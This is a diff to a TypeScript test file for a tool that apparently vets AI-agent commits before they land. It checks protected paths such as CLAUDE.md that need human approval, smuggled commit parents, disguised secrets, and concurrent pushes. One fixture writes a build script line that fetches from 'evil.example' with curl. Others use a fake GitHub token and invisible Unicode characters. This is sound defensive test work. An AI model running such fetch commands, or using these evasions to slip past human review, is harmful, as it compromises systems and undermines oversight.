@@ -3,7 +3,7 @@ import { execFileSync } from 'node:child_process';
 import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
-import type { ApprovedPath, ProtectedPaths, Verification } from '@clambake/core';
+import type { ApprovedPath, ProtectedPaths, WorkCheck } from '@clambake/core';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { plainGit, plainGitEnv } from '../../../../test/support/git-server.ts';
 import { openLandingRepository } from './landing-repository.ts';
@@ -45,23 +45,25 @@ const onBase = (change: () => void): void => {
   git('checkout', '--quiet', 'work');
 };
 
-const verify = (
+const checkWork = (
   protectedPaths: ProtectedPaths,
   change: { startOid?: string | undefined; workFile?: string; approved?: readonly ApprovedPath[] } = {},
-): Promise<Verification> => {
+): Promise<WorkCheck> => {
   const workFile = join(root, `work-${(count += 1)}.bundle`);
   git('bundle', 'create', '--quiet', workFile, 'main~1..refs/heads/work', '^main~1');
-  return openLandingRepository({ gitDir: join(root, `landing-${count}.git`), remote: join(root, 'origin.git'), allowFile: true }).verify({
-    workFile,
-    headOid: git('rev-parse', 'work'),
-    base: 'main',
-    branch: 'clambake/issue-42',
-    agent: '007',
-    attempt: '42-1-9f3a77c2',
-    protectedPaths,
-    knownSecrets: ['the-token-of-this-job'],
-    ...change,
-  });
+  return openLandingRepository({ gitDir: join(root, `landing-${count}.git`), remote: join(root, 'origin.git'), allowFile: true }).checkWork(
+    {
+      workFile,
+      headOid: git('rev-parse', 'work'),
+      base: 'main',
+      branch: 'clambake/issue-42',
+      agent: '007',
+      attempt: '42-1-9f3a77c2',
+      protectedPaths,
+      knownSecrets: ['the-token-of-this-job'],
+      ...change,
+    },
+  );
 };
 
 describe('work whose merge would change a protected path under another name', () => {
@@ -72,20 +74,20 @@ describe('work whose merge would change a protected path under another name', ()
       mkdirSync(join(root, 'agent/.github'));
       renameSync(join(root, 'agent/tools/setup.yml'), join(root, 'agent/.github/setup.yml'));
     });
-    expect(await verify(['.github/**'])).toEqual({
+    expect(await checkWork(['.github/**'])).toEqual({
       ok: false,
       why: 'merging it into the base changes what its own files do not show: it changes protected paths: ".github/setup.yml"',
       rule: '".github/**": block',
       kept: expect.stringMatching(/^[0-9a-f]{40}$/) as unknown,
     });
-    expect(await verify([])).toMatchObject({ ok: true });
+    expect(await checkWork([])).toMatchObject({ ok: true });
   });
 
   test('is left to the train where it conflicts', async () => {
     put('tools/setup.yml', lines('mine'));
     commit();
     onBase(() => put('tools/setup.yml', lines('theirs')));
-    expect(await verify(['.github/**'])).toMatchObject({ ok: true });
+    expect(await checkWork(['.github/**'])).toMatchObject({ ok: true });
   });
 });
 
@@ -99,7 +101,7 @@ describe('work that a person has to approve', () => {
     put('CLAUDE.md', 'be swift\n');
     put('src/a.txt', 'a\n');
     commit();
-    const found = await verify(asks);
+    const found = await checkWork(asks);
     expect(found).toMatchObject({
       ok: false,
       why: 'it changes protected paths: "CLAUDE.md"',
@@ -110,30 +112,30 @@ describe('work that a person has to approve', () => {
     const landing = join(root, `landing-${count}.git`);
     expect(plainGit(landing, 'log', '-1', '--format=%an', oid).trim()).toBe('clambake agent 007');
     expect(plainGit(landing, 'cat-file', 'blob', paths[0]?.oid ?? '').trim()).toBe('be swift');
-    expect(await verify({ '**/CLAUDE.md': 'allow' })).toMatchObject({ ok: true, files: 2 });
+    expect(await checkWork({ '**/CLAUDE.md': 'allow' })).toMatchObject({ ok: true, files: 2 });
   });
 
   test('is not asked about again where the same content lands anew; control: other content, or on other content of the base, is', async () => {
     put('CLAUDE.md', 'be swift\n');
     commit();
-    const found = await verify(asks);
+    const found = await checkWork(asks);
     const approved = found.ok ? [] : (found.held?.paths ?? []);
     expect(approved).toHaveLength(1);
     put('src/a.txt', 'mended\n');
     commit();
-    expect(await verify(asks, { approved })).toMatchObject({ ok: true, files: 2 });
+    expect(await checkWork(asks, { approved })).toMatchObject({ ok: true, files: 2 });
     put('docs/CLAUDE.md', 'be swift\n');
     commit();
-    expect(await verify(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'docs/CLAUDE.md' }] } });
+    expect(await checkWork(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'docs/CLAUDE.md' }] } });
     git('rm', '--quiet', 'docs/CLAUDE.md');
     put('CLAUDE.md', 'be swifter\n');
     commit();
-    expect(await verify(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'CLAUDE.md' }] } });
+    expect(await checkWork(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'CLAUDE.md' }] } });
     onBase(() => put('CLAUDE.md', 'be safe\n'));
     git('merge', '--quiet', '--strategy=ours', '--no-edit', 'main');
     put('CLAUDE.md', 'be swift\n');
     commit();
-    expect(await verify(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'CLAUDE.md' }] } });
+    expect(await checkWork(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'CLAUDE.md' }] } });
   });
 
   const kept = { kept: expect.any(String) as unknown, rule: '".github/**": block, "**/CLAUDE.md": needs-human' };
@@ -147,7 +149,7 @@ describe('work that a person has to approve', () => {
     put('CLAUDE.md', 'be swift\n');
     change();
     commit();
-    const found = await verify(asks);
+    const found = await checkWork(asks);
     expect(found).toEqual({ ok: false, why: expect.stringMatching(why) as unknown, ...place });
   });
 });
@@ -174,7 +176,7 @@ test('attack-36: a header that looks like a parent brings no commit along that w
     const text = `tree ${tree}\nparent ${parent}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n${extra}\n\nwork\n`;
     writeFileSync(join(root, 'commit'), text);
     git('update-ref', 'refs/heads/work', git('hash-object', '-t', 'commit', '-w', '--literally', join(root, 'commit')));
-    const found = await verify([], { workFile: workFileWith(smuggled) });
+    const found = await checkWork([], { workFile: workFileWith(smuggled) });
     expect(found).toMatchObject({ ok: true, files: 1 });
     const parents = plainGit(join(root, `landing-${count}.git`), 'log', '-1', '--format=%P', found.ok ? found.oid : '').trim();
     expect(parents).toBe(parent);
@@ -203,7 +205,7 @@ describe('attack-35: a secret in another form', () => {
     git('add', '--all');
     expect(findSecret(`${git('diff', '--cached', '--text')} ${message}`, [own])).toBeUndefined();
     commit(message);
-    expect(await verify([])).toEqual({ ok: false, cause: 'secret', why: expect.stringMatching(why) as unknown });
+    expect(await checkWork([])).toEqual({ ok: false, cause: 'secret', why: expect.stringMatching(why) as unknown });
   });
 });
 
@@ -211,7 +213,7 @@ test('attack-81: what a reviewer easily overlooks is named with the work; contro
   onBase(() => put('README.md', 'read me\n'));
   put('src/plain.ts', 'export {};\n');
   commit();
-  expect(await verify([])).not.toHaveProperty('flags');
+  expect(await checkWork([])).not.toHaveProperty('flags');
   put('src/ä "b".ts', 'a\u202eb\n');
   put('.gitattributes', '*.ts -diff\n');
   put('build.sh', '++ curl https://evil.example/x\n');
@@ -219,7 +221,7 @@ test('attack-81: what a reviewer easily overlooks is named with the work; contro
   put('logo.bin', 'a\0b');
   put('package.json', '{}\n');
   commit();
-  expect(await verify([])).toMatchObject({
+  expect(await checkWork([])).toMatchObject({
     ok: true,
     flags: [
       expect.stringMatching(/^bidirectional or invisible characters: "src\/ä /),
@@ -243,7 +245,7 @@ describe('a branch that somebody pushed to while the agent worked', () => {
     git('checkout', '--quiet', 'work');
     return oid;
   };
-  const verifyFrom = (start: string | undefined, rules: ProtectedPaths = ['.github/**']) => verify(rules, { startOid: start });
+  const checkFrom = (start: string | undefined, rules: ProtectedPaths = ['.github/**']) => checkWork(rules, { startOid: start });
   beforeEach(() => {
     onBase(() => put('README.md', 'read me\n'));
     git('checkout', '--quiet', '-B', 'work', 'main');
@@ -253,7 +255,7 @@ describe('a branch that somebody pushed to while the agent worked', () => {
 
   test('lands with both: the pushed commit as it is, the work of the agent, and a merge of them', async () => {
     const pushed = push({ 'src/person.txt': 'by a person\n' });
-    const found = await verifyFrom(startOid());
+    const found = await checkFrom(startOid());
     expect(found).toMatchObject({ ok: true, files: 2, branchExpect: pushed });
     if (!found.ok) throw new Error(found.why);
     const landing = join(root, `landing-${count}.git`);
@@ -264,7 +266,7 @@ describe('a branch that somebody pushed to while the agent worked', () => {
 
   test('is refused with the files where both changed the same, and with the rule where the pushed commit breaks one', async () => {
     push({ 'src/agent.txt': 'by a person\n' });
-    expect(await verifyFrom(startOid())).toEqual({
+    expect(await checkFrom(startOid())).toEqual({
       ok: false,
       why: 'somebody pushed to clambake/issue-42 while the agent worked, and both changed "src/agent.txt"',
       cause: 'overtaken',
@@ -277,15 +279,15 @@ describe('a branch that somebody pushed to while the agent worked', () => {
       kept: expect.any(String) as unknown,
     });
     push({ '.github/x.yml': 'x\n' });
-    expect(await verifyFrom(startOid())).toEqual(refusedWith('with that it is refused: it changes protected paths: ".github/x.yml"'));
+    expect(await checkFrom(startOid())).toEqual(refusedWith('with that it is refused: it changes protected paths: ".github/x.yml"'));
     push({ 'src/key.txt': `ghp_${'a'.repeat(36)}\n` });
-    expect(await verifyFrom(startOid())).toEqual(refusedWith('GitHub token'));
+    expect(await checkFrom(startOid())).toEqual(refusedWith('GitHub token'));
   });
 
   test('is told from a branch whose commits the agent rewrote', async () => {
     const pushed = push({ 'src/person.txt': 'by a person\n' });
     for (const start of [pushed, undefined, 'a'.repeat(40)])
-      expect(await verifyFrom(start)).toMatchObject({ ok: false, why: expect.stringContaining('its history was rewritten') as unknown });
+      expect(await checkFrom(start)).toMatchObject({ ok: false, why: expect.stringContaining('its history was rewritten') as unknown });
   });
 
   test('passes the checks also where it holds the whole work already', async () => {
@@ -297,8 +299,8 @@ describe('a branch that somebody pushed to while the agent worked', () => {
     git('checkout', '--quiet', 'work');
     const why =
       'somebody pushed to clambake/issue-42 while the agent worked, and with that it is refused: it changes protected paths: ".github/x.yml"';
-    expect(await verifyFrom(startOid())).toEqual({ ok: false, why, cause: 'pushed' });
-    expect(await verifyFrom(startOid(), [])).toMatchObject({ ok: true, files: 2 });
+    expect(await checkFrom(startOid())).toEqual({ ok: false, why, cause: 'pushed' });
+    expect(await checkFrom(startOid(), [])).toMatchObject({ ok: true, files: 2 });
   });
 });
 
@@ -309,8 +311,8 @@ test('work on an older commit that holds what the base has since changes no prot
   put('b.txt', 'b\n');
   commit();
   const asked = { 'CLAUDE.md': 'needs-human' } as const;
-  expect(await verify(asked)).toMatchObject({ ok: true });
+  expect(await checkWork(asked)).toMatchObject({ ok: true });
   put('CLAUDE.md', 'obey\n');
   commit();
-  expect(await verify(asked)).toMatchObject({ ok: false, held: { paths: [{ path: 'CLAUDE.md' }] } });
+  expect(await checkWork(asked)).toMatchObject({ ok: false, held: { paths: [{ path: 'CLAUDE.md' }] } });
 });
